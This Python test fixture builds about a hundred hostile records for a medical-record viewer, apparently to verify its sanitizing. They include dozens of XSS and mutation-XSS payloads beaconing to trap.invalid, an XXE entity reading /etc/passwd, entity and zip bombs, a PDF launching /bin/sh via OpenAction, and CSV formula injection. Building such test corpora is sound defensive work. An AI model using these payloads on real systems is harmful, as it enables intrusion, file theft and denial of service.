"""A hundred records that try to run, to load, to lead away, to lie or to take everything: the viewer shows them harmless.

Each is made here from numbers and a few texts; `TRAP` stands in each that tries to reach somewhere, so that a request
there is told by its name.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from panachain.viewer.items import Item

TRAP = "http://trap.invalid"
"""Where nobody may be asked; the name is of no domain (RFC 6761)."""
SHOUT = "PANACHAIN_HOSTILE_RAN"
"""What a script writes if it runs."""
RUN = f"alert('{SHOUT}');document.title='{SHOUT}';new Image().src='{TRAP}/ran'"

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f'<script src="{TRAP}/a.js"></script>',
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script with a null": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "script module": f'<script type="module">import "{TRAP}/m.js"</script>',
    "onerror": f'<img src="x" onerror="{RUN}">',
    "onerror without quotes": "<img src=x onerror=alert(1)>",
    "onload of svg": f'<svg onload="{RUN}"><circle r="9"/></svg>',
    "script in svg": f"<svg><script>{RUN}</script></svg>",
    "svg use": f'<svg><use href="{TRAP}/a.svg#x"/></svg>',
    "svg image": f'<svg><image href="{TRAP}/a.png" width="9" height="9"/></svg>',
    "svg foreignObject": f'<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{RUN}"/></foreignObject></svg>',
    "svg animate": f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/><text>go</text></a></svg>',
    "svg style": f"<svg><style>@import '{TRAP}/s.css';</style></svg>",
    "ontoggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "onfocus": f'<input autofocus onfocus="{RUN}">',
    "onbegin": f"<svg><animate onbegin=\"{RUN}\" attributeName='x' dur='1s'/></svg>",
    "onpointer": f'<p onpointerover="{RUN}" onmouseover="{RUN}" onclick="{RUN}">over</p>',
    "onanimation": f'<style>@keyframes x{{}}</style><p style="animation:x" onanimationstart="{RUN}">x</p>',
    "body onload": f'<body onload="{RUN}">x</body>',
    "html in html": f'</div></main></body></html><html><body onload="{RUN}">',
    "image": f'<img src="{TRAP}/i.png">',
    "image srcset": f'<img srcset="{TRAP}/i.png 1x">',
    "image lowsrc": f'<img lowsrc="{TRAP}/i.png" dynsrc="{TRAP}/i2.png">',
    "picture": f'<picture><source srcset="{TRAP}/i.png"><img src="{TRAP}/j.png"></picture>',
    "video": f'<video src="{TRAP}/v.mp4" poster="{TRAP}/p.png" autoplay></video>',
    "audio": f'<audio src="{TRAP}/a.mp3" autoplay></audio>',
    "table background": f'<table background="{TRAP}/b.png"><tr><td background="{TRAP}/c.png">x</td></tr></table>',
    "input image": f'<input type="image" src="{TRAP}/i.png">',
    "css url": f'<p style="background:url({TRAP}/b.png)">x</p>',
    "css import": f"<style>@import url('{TRAP}/s.css');</style>",
    "css font": f"<style>@font-face{{font-family:x;src:url({TRAP}/f.woff)}}body{{font-family:x}}</style>",
    "css over the page": '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Your session ended</div>',
    "css escapes": f'<p style="\\62 ackground:u\\72l({TRAP}/b)">x</p>',
    "css expression": f'<p style="width:expression({RUN})">x</p>',
    "link style": f'<link rel="stylesheet" href="{TRAP}/s.css">',
    "link prefetch": f'<link rel="prefetch" href="{TRAP}/p"><link rel="dns-prefetch" href="//trap.invalid">',
    "link preload": f'<link rel="preload" as="image" href="{TRAP}/p.png">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={TRAP}/r">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">',
    "base": f'<base href="{TRAP}/"><img src="i.png">',
    "form": f'<form action="{TRAP}/f" method="post"><input name="passphrase"><button>Unlock</button></form>',
    "button formaction": f'<button formaction="{TRAP}/f">x</button>',
    "iframe": f'<iframe src="{TRAP}/f"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    "frameset": f'<frameset><frame src="{TRAP}/f"></frameset>',
    "object": f'<object data="{TRAP}/o" type="text/html"></object>',
    "object data": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "embed": f'<embed src="{TRAP}/e">',
    "applet": f'<applet code="{TRAP}/a.class"></applet>',
    "link javascript": f'<a href="javascript:{RUN}">results</a>',
    "link javascript in pieces": f'<a href="java\tscript:{RUN}">results</a>',
    "link javascript escaped": f'<a href="&#106;avascript:{RUN}">results</a>',
    "link data": f'<a href="data:text/html,<script>{RUN}</script>">results</a>',
    "link vbscript": '<a href="vbscript:msgbox(1)">results</a>',
    "link away": f'<a href="{TRAP}/l" ping="{TRAP}/p" target="_top">sign in again</a>',
    "link without scheme": '<a href="//trap.invalid/l">sign in again</a>',
    "area": f'<map name="m"><area href="{TRAP}/a" shape="default"></map><img usemap="#m">',
    "mutation noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "mutation math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "mutation svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation template": f"<template><img src=x onerror={RUN}></template>",
    "mutation select": f"<select><style></select><img src=x onerror={RUN}></style>",
    "mutation form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mutation comment": f"<!--><img src=x onerror={RUN}>-->",
    "mutation cdata": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "mutation xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    "mutation textarea": f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
    "mutation plaintext": f"<plaintext><img src=x onerror={RUN}>",
    "namespaces": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
    "custom element": f'<x-y is="script" onclick="{RUN}">x</x-y>',
    "clobbering": '<p id="content" name="cookie">x</p><form id="document"></form><a id="a1" name="a1">x</a>',
    "class of the page": '<p class="v-warning v-skip" role="alert" aria-live="assertive">Your key was stolen</p>',
    "htmx": f'<p hx-get="{TRAP}/h" hx-trigger="load" data-hx-post="{TRAP}/i">x</p>',
    "import map": f'<script type="importmap">{{"imports":{{"x":"{TRAP}/x.js"}}}}</script>',
    "portal": f'<portal src="{TRAP}/p"></portal><fencedframe src="{TRAP}/q"></fencedframe>',
    "depth": "<div>" * 20_000 + "deep",
    "depth of tables": "<table><tr><td>" * 5_000,
    "attributes": "<p " + " ".join(f'a{n}="{TRAP}"' for n in range(5_000)) + ">x</p>",
    "spans": '<table><tr><td colspan="99999999" rowspan="99999999">x</td></tr></table>',
    "length": "<p>" + "x" * 2_000_000 + f"<script>{RUN}</script>",
    "bidi": "<p>dose \u202e01\u202c mg\u2066 \u200b</p>",
    "bidi in references": "<p>dose &#x202e;01&#8238; mg</p>",
}
"""Markup by what it tries."""
assert len(MARKUP) >= 80


@dataclass(frozen=True)
class Hostile:
    """A record that tries something."""

    name: str
    media_type: str
    content: bytes
    category: str = "documents"


def records() -> list[Hostile]:
    """Return all of them."""
    return [*_narratives(), *_texts(), *_files(), *_others()]


def items() -> list[Item]:
    """Return all of them as the viewer takes them, numbered from 1."""
    return [
        Item(
            number=number,
            media_type=one.media_type,
            category=one.category,
            year=2024,
            hospital="0x52908400098527886E0F7030069857D2E4169EE7",
            hospital_name=f'<img src="{TRAP}/h" onerror="{RUN}">' if number % 2 else "City clinic",
            size=len(one.content),
            read=lambda content=one.content: content,  # type: ignore[misc]
        )
        for number, one in enumerate(records(), 1)
    ]


def _json(resource: dict[str, Any]) -> bytes:
    return json.dumps({"resourceType": "Bundle", "type": "collection", "entry": [{"resource": resource}]}).encode()


def _narratives() -> Iterator[Hostile]:
    """Markup as narrative of FHIR, each fourth one in C-CDA's file, or as an attachment."""
    for number, (name, markup) in enumerate(MARKUP.items()):
        div = {"status": "generated", "div": f'<div xmlns="http://www.w3.org/1999/xhtml">{markup}</div>'}
        resource: dict[str, Any] = {"resourceType": "Composition", "status": "final", "title": name, "text": div}
        resource["section"] = [{"title": markup[:5_000], "text": div}]
        if number % 4 == 1:
            data = b64encode(markup.encode()).decode()
            attachment = {"contentType": "text/html", "data": data, "title": markup[:5_000]}
            resource = {
                "resourceType": "DocumentReference",
                "status": "current",
                "content": [{"attachment": attachment}],
            }
        yield Hostile(name, "application/fhir+json", _json(resource))


def _texts() -> Iterator[Hostile]:
    """Markup where plain texts are expected, in each kind of place."""
    evil = f'"><script>{RUN}</script><img src="{TRAP}/t" onerror="{RUN}">{{{{7*7}}}}%(x)s{{% raw %}}50%'
    concept = {"text": evil, "coding": [{"system": evil, "code": evil, "display": evil}]}
    quantity = {"value": 5, "unit": evil, "system": "http://unitsofmeasure.org", "code": evil}
    observed = [
        {
            "resourceType": "Observation",
            "id": f"o{year}",
            "status": evil,
            "code": concept,
            "category": [{"coding": [{"code": "laboratory"}]}],
            "effectiveDateTime": f"{year}-01-01",
            "valueQuantity": quantity | {"value": year / 7},
            "referenceRange": [{"text": evil, "low": quantity, "high": quantity | {"value": 1e308}}],
            "interpretation": [concept],
            "note": [{"text": evil}],
        }
        for year in (2020, 2021, 2022)
    ]
    more: list[dict[str, Any]] = [
        {"resourceType": "Patient", "id": evil, "name": [{"text": evil}], "birthDate": evil, "gender": evil},
        {"resourceType": "Patient", "name": evil, "identifier": [{"value": evil, "type": concept}]},
        {"resourceType": "Condition", "code": concept, "clinicalStatus": concept, "onsetDateTime": evil},
        {"resourceType": "Encounter", "type": [concept], "class": concept, "period": {"start": "2020-01-01"}},
        {
            "resourceType": "Encounter",
            "type": [concept],
            "class": concept,
            "period": {"start": "2021-01-01", "end": "2021-02-01"},
        },
        {"resourceType": evil, "id": evil, "code": concept, "text": evil},
        {
            "resourceType": "MedicationRequest",
            "medicationReference": {"reference": f"{TRAP}/Medication/1", "display": evil},
        },
        {
            "resourceType": "DocumentReference",
            "content": [{"attachment": {"contentType": evil, "url": f"{TRAP}/file"}}],
        },
        {
            "resourceType": "Observation",
            "code": [[[]]],
            "component": {"valueQuantity": [1, {"value": {}}]},
            "category": 7,
        },
        {"resourceType": "Immunization", "vaccineCode": None, "status": [], "occurrenceDateTime": {"x": 1}},
        {"resourceType": "Bundle", "entry": "none", "contained": [{"resourceType": 5}]},
    ]
    bundle = {"resourceType": "Bundle", "entry": [{"resource": one, "fullUrl": evil} for one in (*observed, *more)]}
    yield Hostile("texts", "application/fhir+json", json.dumps(bundle).encode(), "laboratory")
    yield Hostile("wrong types", "application/fhir+json", b'[1, "x", null, {"resourceType": []}]')
    yield Hostile("depth of JSON", "application/fhir+json", b'{"a":' * 100_000)
    yield Hostile(
        "large numbers", "application/fhir+json", _json({"resourceType": "Observation", "valueInteger": 10**4000})
    )


def _cda(body: str, prolog: str = "", title: str = "A document") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<ClinicalDocument xmlns="urn:hl7-org:v3"><title>{title}</title>'
        f"<component><structuredBody><component><section><title>{title}</title>{body}</section></component>"
        "</structuredBody></component></ClinicalDocument>"
    ).encode()


def _files() -> Iterator[Hostile]:
    """Files of other kinds."""
    cda = "application/cda+xml"
    evil = (
        f'<content styleCode="Bold" onclick="{RUN.replace(chr(34), "")}">x</content>'
        f'<linkHtml href="javascript:{RUN}">results</linkHtml><renderMultiMedia referencedObject="{TRAP}/x"/>'
        f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script><td colspan="9&quot; onclick=&quot;x">y</td>'
        f"&lt;script&gt;{RUN}&lt;/script&gt;"
    )
    yield Hostile("cda markup", cda, _cda(f"<text>{evil}</text>", title=f"&lt;script&gt;{RUN}&lt;/script&gt;"))
    yield Hostile(
        "cda stylesheet", cda, _cda("<text>x</text>", f'<?xml-stylesheet type="text/xsl" href="{TRAP}/x.xsl"?>')
    )
    bomb = "<!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'>" + "".join(
        f"<!ENTITY a{n} '&a{n - 1 if n else ''};&a{n - 1 if n else ''};'>" for n in range(40)
    )
    yield Hostile("entity bomb", cda, _cda("<text>&a39;</text>", bomb + "]>"))
    yield Hostile(
        "entity from elsewhere", cda, _cda("<text>&e;</text>", f'<!DOCTYPE a [<!ENTITY e SYSTEM "{TRAP}/e">]>')
    )
    yield Hostile(
        "entity from the disk", cda, _cda("<text>&e;</text>", '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>')
    )
    yield Hostile("depth of XML", cda, _cda("<text>" + "<content>" * 5_000))
    rows = "<tr><td>1</td></tr>" * 100_000
    yield Hostile("a huge table", cda, _cda(f"<text><table>{rows}</table></text>"))
    yield Hostile(
        "xhtml as XML",
        "application/xml",
        f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>'.encode(),
    )
    yield Hostile("svg", "image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'.encode())
    yield Hostile("pdf with actions", "application/pdf", _pdf())
    yield Hostile("pdf that is html", "application/pdf", f"<html><script>{RUN}</script></html>".encode())
    yield Hostile(
        "hl7 markup",
        "application/hl7-v2",
        f"MSH|^~\\&|<script>{RUN}</script>|{TRAP}|a|b|20240101||ORU^R01|1|P|2.5\rOBX|1|TX|a^<img src=x onerror={RUN}>||\\X3C\\script\\X3E\\{RUN}|||||F\r".encode(),
    )
    yield Hostile("hl7 of many segments", "application/hl7-v2", b"MSH|^~\\&|a\r" + b"OBX|1|TX|a||b\r" * 100_000)
    yield Hostile(
        "fhir xml with entities",
        "application/fhir+xml",
        f'<!DOCTYPE a [<!ENTITY e SYSTEM "{TRAP}/e">]><Patient xmlns="http://hl7.org/fhir"><name>&e;</name></Patient>'.encode(),
    )
    yield Hostile(
        "fhir xml with script",
        "application/fhir+xml",
        f'<Composition xmlns="http://hl7.org/fhir"><status value="final"/><text><div xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script><p onclick="{RUN}">x</p></div></text></Composition>'.encode(),
    )
    yield Hostile(
        "csv of formulas", "text/csv", f'what,value %\n=HYPERLINK("{TRAP}"),<script>{RUN}</script>\n'.encode() * 3_000
    )
    yield Hostile("text", "text/plain", f"<script>{RUN}</script>\x1b[2J\u202e".encode())


def _others() -> Iterator[Hostile]:
    """Images and archives that take more than they say."""
    for name, rows, columns, frames in (
        ("absurd size", 65_535, 65_535, 1),
        ("absurd frames", 4, 4, 2_000_000_000),
        ("no size", 0, 0, 0),
    ):
        yield Hostile(f"dicom of {name}", "application/dicom", dicom(rows, columns, frames, b"\0" * 64), "imaging")
    yield Hostile(
        "dicom with markup", "application/dicom", dicom(2, 2, 1, b"\0\1\2\3", name=f"<script>{RUN}</script>"), "imaging"
    )
    yield Hostile("dicom that is cut", "application/dicom", dicom(512, 512, 1, b"\0" * 9)[:-4], "imaging")
    yield Hostile("dicom of nested sequences", "application/dicom", _nested(), "imaging")
    yield Hostile("picture of absurd size", "image/png", png(60_000, 60_000), "imaging")
    yield Hostile("picture that is none", "image/jpeg", b"\xff\xd8\xff" + b"\0" * 64, "imaging")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil", b"\0" * (64 << 20))
    yield Hostile("zip bomb", "application/zip", buffer.getvalue())


def dicom(rows: int, columns: int, frames: int, pixels: bytes, name: str = "A") -> bytes:
    """Return a DICOM object of 8 bits, explicit little endian, whose header says these sizes."""

    def element(group: int, number: int, kind: bytes, value: bytes) -> bytes:
        value += (b"\0" if kind in (b"UI", b"OB") else b" ") * (len(value) % 2)
        head = struct.pack("<HH", group, number) + kind
        return (
            head + (b"\0\0" + struct.pack("<I", len(value)) if kind == b"OB" else struct.pack("<H", len(value))) + value
        )

    short = struct.Struct("<H").pack
    meta = element(2, 2, b"UI", b"1.2.840.10008.5.1.4.1.1.7") + element(2, 16, b"UI", b"1.2.840.10008.1.2.1")
    body = (
        element(8, 0x16, b"UI", b"1.2.840.10008.5.1.4.1.1.7")
        + element(8, 0x60, b"CS", b"OT")
        + element(0x10, 0x10, b"PN", name.encode()[:60])
        + element(0x20, 0xD, b"UI", b"1.2.3")
        + element(0x20, 0xE, b"UI", b"1.2.4")
        + element(0x28, 2, b"US", short(1))
        + element(0x28, 4, b"CS", b"MONOCHROME2")
        + element(0x28, 8, b"IS", str(frames).encode())
        + element(0x28, 0x10, b"US", short(rows))
        + element(0x28, 0x11, b"US", short(columns))
        + element(0x28, 0x100, b"US", short(8))
        + element(0x28, 0x101, b"US", short(8))
        + element(0x28, 0x102, b"US", short(7))
        + element(0x28, 0x103, b"US", short(0))
        + element(0x28, 0x1050, b"DS", b"nan")
        + element(0x28, 0x1051, b"DS", b"1e308")
        + element(0x7FE0, 0x10, b"OB", pixels)
    )
    return b"\0" * 128 + b"DICM" + element(2, 0, b"UL", struct.pack("<I", len(meta))) + meta + body


def _nested() -> bytes:
    item = struct.pack("<HH2sHI", 0x40, 0xA730, b"SQ", 0, 0xFFFFFFFF) + struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)
    return dicom(2, 2, 1, b"\0\1\2\3")[:-16] + item * 50_000


def png(width: int, height: int) -> bytes:
    """Return a picture in PNG whose header says this size; its data are a few bytes that unpack to many."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = zlib.compress(b"\0" * 1_001_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _pdf() -> bytes:
    """Return a PDF file that runs JavaScript and starts programs when it is opened, if its reader lets it."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/Names<</JavaScript<</Names[(x) 6 0 R]>>>>/AA<</WC 5 0 R>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F1<</Type/Font/Subtype/Type1"
        b"/BaseFont/Helvetica>>>>>>/AA<</O 7 0 R>>>>",
        b"<</Length 61>>stream\nBT /F1 12 Tf 10 100 Td (<script>alert\\(1\\)</script> words) Tj ET \nendstream",
        b"<</S/Launch/F(/bin/sh)>>",
        f"<</S/JavaScript/JS(app.alert\\('{SHOUT}'\\);app.launchURL\\('{TRAP}/pdf'\\))>>".encode(),
        f"<</S/URI/URI({TRAP}/uri)>>".encode(),
    ]
    made = b"%PDF-1.7\n"
    places = []
    for number, one in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj" % number + one + b"endobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return made + b"xref\n0 %d\n0000000000 65535 f \n%btrailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (
        size,
        table,
        size,
        len(made),
    )
